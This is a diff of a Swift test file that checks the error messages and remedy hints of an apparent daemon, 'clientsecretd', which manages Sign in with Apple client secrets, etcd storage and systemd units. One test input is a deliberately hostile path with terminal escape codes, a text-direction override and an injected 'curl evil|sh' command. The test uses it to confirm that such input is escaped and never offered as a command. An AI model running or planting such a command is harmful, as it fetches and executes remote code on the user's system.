@@ -20,18 +20,18 @@ import Testing
         #expect(
             Failure(.systemError, at: path, cause: 4095).sentence
                 == "/srv/a b/web.jwt: the system refused (errno 4095); "
-                + "see what lies there and whose it is: namei -l '/srv/a b/web.jwt'")
+                + "see what lies there and whose it is (namei -l '/srv/a b/web.jwt')")
         #expect(Failure(.ioError, at: path, cause: 116, detail: "").message.hasSuffix("fails (stale file handle)"))
-        #expect(Failure(.diskFull, at: path).remedy?.description == "make room: df -h '/srv/a b'")
+        #expect(Failure(.diskFull, at: path).remedy?.description == "make room (df -h '/srv/a b')")
     }
 
     @Test func whoeverMetItKnowsBetterThanItsCode() throws {
         let path = Failure.Place.path(try #require(AbsolutePath("/srv/web.jwt")))
         let failure = Failure(
-            .unguardedDirectory, at: path, cause: 1, detail: "/srv", remedy: .run("chmod o-w /srv"))
+            .unguardedDirectory, at: path, cause: 1, detail: "/srv", remedy: .say("close it", run: .reload))
         #expect(failure.message == "/srv/web.jwt: others may write to a directory on the way: /srv (not permitted)")
-        #expect(failure.remedy?.command == "chmod o-w /srv")
-        #expect(failure.sentence == failure.message + "; chmod o-w /srv")
+        #expect(failure.remedy?.command == "clientsecretd reload")
+        #expect(failure.sentence == failure.message + "; close it: clientsecretd reload")
         #expect(Failure(.unguardedDirectory, at: path).remedy?.command == nil)
     }
 
@@ -42,8 +42,7 @@ import Testing
         let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
         let detailed = Failure(code, at: try #require(Self.place(of: code)), detail: evil)
         #expect(detailed.message.contains(": " + escaped))
-        #expect(
-            detailed.remedy?.description.contains("curl evil") != true || [.unknownUser, .unknownGroup].contains(code))
+        #expect(detailed.remedy?.description.contains("curl evil") != true)
         let placed = Failure(code, at: .path(try #require(AbsolutePath(evil))))
         #expect(placed.message.hasPrefix(escaped))
         #expect(placed.remedy?.command?.contains("evil") != true)
@@ -56,22 +55,19 @@ import Testing
         let exec = Action.exec(arguments: ["/usr/bin/hook", "a b"], timeout: 30).id
         #expect(
             Failure(.actionFailed, at: .action(exec), detail: "exit status 3").sentence
-                == "exec /usr/bin/hook 'a b': failed: exit status 3; try it by hand as the daemon's user: /usr/bin/hook 'a b'"
+                == "exec /usr/bin/hook 'a b': failed: exit status 3; try it by hand as the daemon's user (/usr/bin/hook 'a b')"
         )
         let signal = Action.signal(unit: "a.service", signal: "SIGHUP").id
         #expect(
-            Failure(.actionFailed, at: .action(signal)).remedy?.description == "see why: systemctl status a.service")
+            Failure(.actionFailed, at: .action(signal)).remedy?.description == "see why (systemctl status a.service)")
         #expect(
             Failure(.systemError, at: .named("credential socket"), cause: 22).remedy?.description
-                == "see what came before it: journalctl -u clientsecretd")
+                == "see what came before it (journalctl -u clientsecretd)")
         let path = Failure.Place.path(try #require(AbsolutePath("/run/web.jwt")))
         #expect(Failure(.noSecret, at: path).remedy?.description == "clientsecretd renew")
         #expect(
-            Failure(.unknownGroup, at: path, detail: "www").remedy?.description
-                == "add the group: addgroup --system www")
-        #expect(
             Failure(.keyIsSEC1, at: .key(try #require(KeyName("a")))).remedy?.description
-                == "convert it: openssl pkcs8 -topk8 -nocrypt -in OLD -out NEW")
+                == "convert it")
     }
 
     /// A place of the kind that the code is about.
@@ -110,7 +106,7 @@ import Testing
         case .keyMissing:
             #"/d/f.p8: there is no such key file; copy the .p8 file there, or fix "file" in the configuration"#
         case .keyUnreadable:
-            #"/d/f.p8: the key cannot be read; give the file to the daemon's user with chown, or pass it as a systemd credential"#
+            #"/d/f.p8: the key cannot be read; let the daemon's user read the file, and nobody else, or pass it as a systemd credential"#
         case .keyNotGuarded:
             #"/d/f.p8: others could read or replace the key"#
         case .keyEmpty:
@@ -120,7 +116,7 @@ import Testing
         case .keyTooLarge:
             #"/d/f.p8: too large for a private key; name the .p8 file that Apple gave you"#
         case .keyNotPEM:
-            #"/d/f.p8: not a PEM file; name the .p8 file that Apple gave you, or convert a DER file: openssl pkey -inform DER -in /d/f.p8 -out /d/f.p8.pkcs8.p8"#
+            #"/d/f.p8: not a PEM file; name the .p8 file that Apple gave you, or convert a DER file (openssl pkey -inform DER -in /d/f.p8 -out /d/f.p8.pkcs8.p8)"#
         case .keyIsPublic:
             #"/d/f.p8: a public key, where the private one is needed; name the .p8 file that Apple gave you"#
         case .keyIsCertificate:
@@ -130,28 +126,28 @@ import Testing
         case .keyWrongCurve:
             #"/d/f.p8: an EC key on another curve than P-256; make a key for Sign in with Apple in Apple's developer account and name its .p8 file"#
         case .keyIsSEC1:
-            #"/d/f.p8: an EC PRIVATE KEY (SEC1), where PKCS#8 is needed; convert it: openssl pkcs8 -topk8 -nocrypt -in /d/f.p8 -out /d/f.p8.pkcs8.p8"#
+            #"/d/f.p8: an EC PRIVATE KEY (SEC1), where PKCS#8 is needed; convert it: (umask 077; set -C; openssl pkcs8 -topk8 -nocrypt </d/f.p8 >/d/f.p8.new) && cat /d/f.p8.new >/d/f.p8 && rm /d/f.p8.new"#
         case .keyMalformed:
             #"/d/f.p8: the private key cannot be decoded; copy the .p8 file again"#
         case .keyNeedsPassphrase:
             #"key "apple": the key is encrypted and no passphrase is configured; write "passphrase_file" or "passphrase_credential" under the key"#
         case .keyWrongPassphrase:
-            #"/d/f.p8: the passphrase does not open the key; try the passphrase by hand: openssl pkey -in /d/f.p8 -noout"#
+            #"/d/f.p8: the passphrase does not open the key; try the passphrase by hand (openssl pkey -in /d/f.p8 -noout)"#
         case .keyTooCostly:
             "/d/f.p8: the key is encrypted with more work than is done to open it; "
-                + "encrypt it anew with less: openssl pkcs8 -topk8 -iter 600000 -in /d/f.p8 -out /d/f.p8.pkcs8.p8"
+                + "encrypt it anew with less ((umask 077; set -C; openssl pkcs8 -topk8 -iter 600000 </d/f.p8 >/d/f.p8.new) && cat /d/f.p8.new >/d/f.p8 && rm /d/f.p8.new)"
         case .keyChanged:
             #"key "apple": its file holds another key than before under the same key id, more likely than not by mistake, for Apple gives no two keys one id; put the old file back, which is all it takes to go back"#
         case .sourceStale:
             "/d/f.p8: the source offers no newer secret; "
-                + "see whether the machine that renews it and what copies it here still work: ls -l /d/f.p8"
+                + "see whether the machine that renews it and what copies it here still work (ls -ld /d/f.p8)"
         case .sourceWrong:
             "/d/f.p8: what the source holds is not received; see what was put there, and compare public_key with what "
-                + #""clientsecretd public-key" prints where the key is: clientsecretd inspect /d/f.p8"#
+                + #""clientsecretd public-key" prints where the key is (clientsecretd inspect /d/f.p8)"#
         case .sourceMissing:
-            "/d/f.p8: the source holds nothing; see whether what copies it here works: ls -lL /d/f.p8"
+            "/d/f.p8: the source holds nothing; see whether what copies it here works (ls -ld /d/f.p8)"
         case .sourceUnreadable:
-            "/d/f.p8: the source cannot be read; let the daemon's user read it: namei -l /d/f.p8"
+            "/d/f.p8: the source cannot be read; let the daemon's user read it (namei -l /d/f.p8)"
         case .publicKeyUnusable:
             #"key "apple": "public_key" is no key on P-256; write what "clientsecretd public-key" prints on the machine that has the private key"#
         case .passphraseUnusable:
@@ -175,17 +171,17 @@ import Testing
         case .readOnlyFileSystem:
             #"/d/f.p8: the file system is read-only; mount it writable, or add ReadWritePaths=-/d to the daemon's unit"#
         case .diskFull:
-            #"/d/f.p8: the disk is full; make room: df -h /d"#
+            #"/d/f.p8: the disk is full; make room (df -h /d)"#
         case .quotaExceeded:
             #"/d/f.p8: the disk quota is used up; make room, or raise the quota of the daemon's user"#
         case .ioError:
-            #"/d/f.p8: the disk or file server fails; look at what the kernel says: dmesg"#
+            #"/d/f.p8: the disk or file server fails; look at what the kernel says (dmesg)"#
         case .isDirectory:
             #"/d/f.p8: a directory, where a file is needed; write another path"#
         case .isMountPoint:
             #"/d/f.p8: mounted on its own, so it cannot be replaced; mount its directory instead"#
         case .isImmutable:
-            #"/d/f.p8: marked so that it cannot be changed; take the mark away: chattr -i -a /d/f.p8"#
+            #"/d/f.p8: marked so that it cannot be changed; take the immutable or append-only attribute away, if nothing else needs it"#
         case .notARegularFile:
             #"/d/f.p8: not a regular file; remove it, or write another path"#
         case .outputIsInput:
@@ -194,21 +190,21 @@ import Testing
         case .sameFile:
             "/d/f.p8: it is the same file as another output; write one path for both, or another for this one"
         case .hardLinked:
-            #"/d/f.p8: the file has further names, which would keep the old content; find the other names and keep one: find / -xdev -samefile /d/f.p8"#
+            #"/d/f.p8: the file has further names, which would keep the old content; find the other names and keep one (find / -xdev -samefile /d/f.p8)"#
         case .fileTooLarge:
             #"/d/f.p8: the file is too large; shorten it, or write another path"#
         case .foreignOwner:
             #"/d/f.p8: the file is another user's and is left alone; write "as:" and the file's owner under the output, or another path"#
         case .untrustedLink:
-            #"/d/f.p8: a link on the way is not followed, for others could change it; write the path that the link leads to"#
+            #"/d/f.p8: a link on the way is not followed, for others could change it; remove the link, or write another path"#
         case .unguardedDirectory:
             #"/d/f.p8: others may write to a directory on the way; take the right from them, or write another path"#
         case .tooManyLinks:
             #"/d/f.p8: too many links on the way; write a shorter path, without links"#
         case .unknownUser:
-            #"www data: there is no such user; add the user: adduser --system 'www data'"#
+            #"www data: there is no such user; fix the name, or add the user"#
         case .unknownGroup:
-            #"www data: there is no such group; add the group: addgroup --system 'www data'"#
+            #"www data: there is no such group; fix the name, or add the group"#
         case .groupNotPermitted:
             #"/d/f.p8: the user that writes it may not give files to this group; add the daemon's user to that group and start the daemon anew"#
         case .outsideSandbox:
@@ -216,7 +212,7 @@ import Testing
         case .attributesNotKept:
             #"/d/f.p8: the file's attributes could not be kept; take the attributes away, or write to another file system"#
         case .changedMeanwhile:
-            #"/d/f.p8: somebody else changed it at the same time, again and again; find out who else writes it: inotifywait -m /d"#
+            #"/d/f.p8: somebody else changed it at the same time, again and again; find out who else writes it (inotifywait -m /d)"#
         case .outputMalformed:
             #"/d/f.p8: its content cannot be read or edited safely; fix that line"#
         case .nameTooLong:
@@ -228,25 +224,25 @@ import Testing
         case .notResponding:
             #"/d/f.p8: not responding; see whether it hangs for others too"#
         case .systemError:
-            #"/d/f.p8: the system refused; see what lies there and whose it is: namei -l /d/f.p8"#
+            #"/d/f.p8: the system refused; see what lies there and whose it is (namei -l /d/f.p8)"#
         case .outputDeleted:
             #"/d/f.p8: the file was deleted together with its other lines and is not made again without them; make the file again with its other lines; the secret is then added"#
         case .contested:
-            #"/d/f.p8: something else goes on changing it; find out who else writes it: inotifywait -m /d"#
+            #"/d/f.p8: something else goes on changing it; find out who else writes it (inotifywait -m /d)"#
         case .writerMissing:
-            #"/d/f.p8: no writer can be reached for its user; start it for that user with systemctl enable --now clientsecretd-writer@USER.socket"#
+            #"/d/f.p8: no writer can be reached for its user; have systemd start it for that user"#
         case .writerNotPermitted:
             #"/d/f.p8: the writer for its user takes no requests from this one; run this as root or as the daemon's user, whom the writer's unit names"#
         case .writerSilent:
-            #"/d/f.p8: the writer for its user gave no answer; see what it says: journalctl -u 'clientsecretd-writer@*'"#
+            #"/d/f.p8: the writer for its user gave no answer; see what it says (journalctl -u 'clientsecretd-writer@*')"#
         case .writerGarbled:
-            #"/d/f.p8: the answer of the writer for its user makes no sense; see what it says: journalctl -u 'clientsecretd-writer@*'"#
+            #"/d/f.p8: the answer of the writer for its user makes no sense; see what it says (journalctl -u 'clientsecretd-writer@*')"#
         case .writerRefused:
             #"/d/f.p8: the writer for its user refuses; put the configuration in force: clientsecretd reload"#
         case .writerUnconfigured:
             #"/d/f.p8: the writer for its user cannot use the configuration; let its user read the configuration, which belongs to root"#
         case .stateUnusable:
-            #"/d/f.p8: the state directory cannot be used, so nothing is remembered over a reboot; give the directory to the daemon's user with chown, mode 0700"#
+            #"/d/f.p8: the state directory cannot be used, so nothing is remembered over a reboot; name a directory that belongs to the daemon's user as "state_dir""#
         case .stateDamaged:
             #"/d/f.p8: what was kept here is damaged and was set aside"#
         case .stateNewer:
@@ -254,7 +250,7 @@ import Testing
         case .stateLocked:
             #"/d/f.p8: another daemon holds the state directory; stop the other one, or give this one a "state_dir" of its own"#
         case .actionFailed:
-            #"restart a.service: failed; see why: systemctl status a.service"#
+            #"restart a.service: failed; see why (systemctl status a.service)"#
         case .actionTimedOut:
             #"restart a.service: took longer than its timeout and was ended; make it faster, or give it a longer "timeout""#
         case .actionNotStarted:
@@ -263,36 +259,36 @@ import Testing
             #"restart a.service: was ended because the daemon stopped"#
         case .unitNotPermitted:
             "restart a.service: systemd may not do this for the daemon's user; "
-                + "add a rule for it below /etc/polkit-1/rules.d: clientsecretd check"
+                + "add a rule for it below /etc/polkit-1/rules.d (clientsecretd check)"
         case .polkitMissing:
             "restart a.service: systemd may not do this for the daemon's user, and polkit is not installed; "
-                + "apt-get install polkitd, and see which rule it needs: clientsecretd check"
+                + "apt-get install polkitd, and see which rule it needs (clientsecretd check)"
         case .unitUnknown:
             "restart a.service: there is no such unit; "
-                + "fix the unit's name, or see what there is: systemctl list-unit-files"
+                + "fix the unit's name, or see what there is (systemctl list-unit-files)"
         case .unitMasked:
-            "restart a.service: the unit is masked; systemctl unmask a.service"
+            "restart a.service: the unit is masked; unmask it: systemctl unmask a.service"
         case .unitRefused:
-            "restart a.service: systemd does not do this; see why: systemctl status a.service"
+            "restart a.service: systemd does not do this; see why (systemctl status a.service)"
         case .unitFailed:
             "restart a.service: the unit has failed, and this does not start it; start it: systemctl start a.service"
         case .unitEnded:
-            "restart a.service: the unit was started and ended within seconds; see why: systemctl status a.service"
+            "restart a.service: the unit was started and ended within seconds; see why (systemctl status a.service)"
         case .busUnreachable:
             "restart a.service: systemd cannot be asked over the bus; "
-                + "see whether the bus runs: systemctl status dbus.socket"
+                + "see whether the bus runs (systemctl status dbus.socket)"
         case .jobFailed:
-            "restart a.service: its job failed; see why: systemctl status a.service"
+            "restart a.service: its job failed; see why (systemctl status a.service)"
         case .jobTimedOut:
-            "restart a.service: its job took too long; see why: systemctl status a.service"
+            "restart a.service: its job took too long; see why (systemctl status a.service)"
         case .jobCanceled:
             "restart a.service: its job was canceled, or another took its place; "
-                + "see why: systemctl status a.service"
+                + "see why (systemctl status a.service)"
         case .jobDependency:
-            "restart a.service: a unit that it needs failed; see which: systemctl list-dependencies a.service"
+            "restart a.service: a unit that it needs failed; see which (systemctl list-dependencies a.service)"
         case .jobSkipped:
             "restart a.service: its job was skipped, for it did not fit what the unit did by then; "
-                + "see why: systemctl status a.service"
+                + "see why (systemctl status a.service)"
         case .noSecret:
             #"client "web": there is no usable secret; clientsecretd renew web"#
         case .secretExpired:
@@ -300,11 +296,11 @@ import Testing
         case .secretExpiring:
             #"client "web": the secret expires soon; clientsecretd renew web"#
         case .renewalOverdue:
-            #"client "web": the secret should have been renewed by now; see what is in the way: clientsecretd status"#
+            #"client "web": the secret should have been renewed by now; see what is in the way (clientsecretd status)"#
         case .signatureUnchecked:
-            #"client "web": its signature was not checked, for this user may not read the key; run this as root: sudo clientsecretd health --offline"#
+            #"client "web": its signature was not checked, for this user may not read the key; run this as root (sudo clientsecretd health --offline)"#
         case .notReadable:
-            "/d/f.p8: this user may not read it; run this as root: sudo clientsecretd health"
+            "/d/f.p8: this user may not read it; run this as root (sudo clientsecretd health)"
         case .noOutputs:
             #"client "web": it has no output, so that only the daemon knows its secret"#
         case .notPublished:
@@ -314,33 +310,33 @@ import Testing
         case .refusedByApple:
             #"client "web": Apple refused the new secret; compare key id, team id and client id with Apple's developer account"#
         case .verdictUnknown:
-            #"client "web": Apple could not be asked about the new secret; see whether this machine reaches Apple: curl -sS -o /dev/null https://appleid.apple.com/auth/keys"#
+            #"client "web": Apple could not be asked about the new secret; see whether this machine reaches Apple (curl -sS -o /dev/null https://appleid.apple.com/auth/keys)"#
         case .verifierMissing:
             #"client "web": the service that asks Apple about new secrets cannot be reached; systemctl enable --now clientsecretd-verify.socket"#
         case .verifierSilent:
-            #"client "web": the service that asks Apple about new secrets gave no answer that can be read; see what it says: journalctl -u 'clientsecretd-verify@*'"#
+            #"client "web": the service that asks Apple about new secrets gave no answer that can be read; see what it says (journalctl -u 'clientsecretd-verify@*')"#
         case .storeUnconfigured:
             #"the store: what asks the store does not know it; write "store" with its "endpoints" in the configuration that the service is handed"#
         case .storeFileUnusable:
-            #"the store: a file for the store cannot be used; see that the service is handed it: systemctl cat clientsecretd-store.service"#
+            #"the store: a file for the store cannot be used; see that the service is handed it (systemctl cat clientsecretd-store.service)"#
         case .storeCredentialsRefused:
-            #"the store: etcd refuses the user or its password; give the user of "store" a password in etcd, write it into the password file, then: systemctl reload clientsecretd.service"#
+            #"the store: etcd refuses the user or its password; give the user of "store" a password in etcd, write it into the password file, then reload (systemctl reload clientsecretd.service)"#
         case .storeCertificateRefused:
             #"the store: etcd refuses this machine's certificate; make one without a CN that etcd's authority signs and that has not expired"#
         case .storeCertificateExpiring:
-            #"the store: this machine's certificate for etcd expires soon; replace it, then: systemctl reload clientsecretd.service"#
+            #"the store: this machine's certificate for etcd expires soon; replace it, then reload (systemctl reload clientsecretd.service)"#
         case .storeServerUntrusted:
             #"the store: the certificate of etcd is not trusted; see this machine's clock, and that "ca_file" holds the authority that signed it for this address"#
         case .storeForbidden:
             #"the store: the user's role in etcd does not allow it; grant its role the keys that docs/fleet.md names"#
         case .storeOutOfSpace:
-            #"the store: etcd has reached its quota and takes nothing more; compact it, and disarm its alarm: etcdctl alarm list"#
+            #"the store: etcd has reached its quota and takes nothing more; compact it, and disarm its alarm (etcdctl alarm list)"#
         case .storeUnreachable:
             #"the store: no member of the store can be reached; see whether etcd runs, and whether a firewall is in the way"#
         case .storeTimedOut:
             #"the store: the store did not answer in time; see whether etcd is overloaded"#
         case .storeUnavailable:
-            #"the store: the store has no leader, or cannot answer; see: etcdctl endpoint status --cluster"#
+            #"the store: the store has no leader, or cannot answer; see how its members are (etcdctl endpoint status --cluster)"#
         case .storeAnswerUnexpected:
             #"the store: this is no answer of etcd's JSON gateway; see whether "endpoints" are etcd's, and whether its gateway is on"#
         case .storeSecretTooLong:
@@ -348,11 +344,11 @@ import Testing
         case .storeMachineShared:
             #"the store: another machine reports under the same name; give each of them its own "machine" below "store" in the configuration"#
         case .rolloutHeld:
-            #"client "web": the rollout of its new secret is held; see which machines fail with it; then resume or finish it: clientsecretd rollout show web"#
+            #"client "web": the rollout of its new secret is held; see which machines fail with it; then resume or finish it (clientsecretd rollout show web)"#
         case .storeServiceMissing:
             #"the store: the service that asks the store cannot be reached; systemctl enable --now clientsecretd-store.socket"#
         case .storeServiceSilent:
-            #"the store: the service that asks the store gave no answer that can be read; see what it says: journalctl -u clientsecretd-store.service"#
+            #"the store: the service that asks the store gave no answer that can be read; see what it says (journalctl -u clientsecretd-store.service)"#
         case .pushUnconfigured:
             #"production: what pushes secrets does not know this target; write it under "targets" in the configuration that the service is handed"#
         case .pushTokenUnusable:
@@ -388,13 +384,13 @@ import Testing
         case .pushServiceMissing:
             #"production: the service that pushes to it cannot be reached; systemctl enable --now clientsecretd-push@production.socket"#
         case .pushServiceSilent:
-            #"production: the service that pushes to it gave no answer that can be read; see what it says: journalctl -u clientsecretd-push@production.service"#
+            #"production: the service that pushes to it gave no answer that can be read; see what it says (journalctl -u clientsecretd-push@production.service)"#
         case .clockBeforeBuild:
-            #"the clock: shows a time before this program was built, so nothing is minted; set the clock, or see why it is not synchronised: timedatectl"#
+            #"the clock: shows a time before this program was built, so nothing is minted; set the clock, or see why it is not synchronised (timedatectl)"#
         case .clockDoubtful:
-            #"the clock: is not synchronised and behind a secret of ours, so nothing is minted; set the clock, or see why it is not synchronised: timedatectl"#
+            #"the clock: is not synchronised and behind a secret of ours, so nothing is minted; set the clock, or see why it is not synchronised (timedatectl)"#
         case .configurationRefused:
-            #"/d/f.p8: the configuration would not start; see everything that is wrong: clientsecretd check"#
+            #"/d/f.p8: the configuration would not start; see everything that is wrong (clientsecretd check)"#
         case .configurationNotAdopted:
             #"/d/f.p8: the configuration passes by now, but the one from before the start is in force; clientsecretd reload"#
         case .socketUnusable:
@@ -402,7 +398,7 @@ import Testing
         case .credentialSocketUnusable:
             #"/d/f.p8: the socket cannot be used, so no unit can load a credential from it; let systemd make it: systemctl enable --now clientsecretd-credentials.socket"#
         case .metricsFileUnwritable:
-            #"/d/f.p8: the metrics_file cannot be written, so node_exporter shows old metrics or none; see what is missing: clientsecretd check"#
+            #"/d/f.p8: the metrics_file cannot be written, so node_exporter shows old metrics or none; see what is missing (clientsecretd check)"#
         }
     }
 }
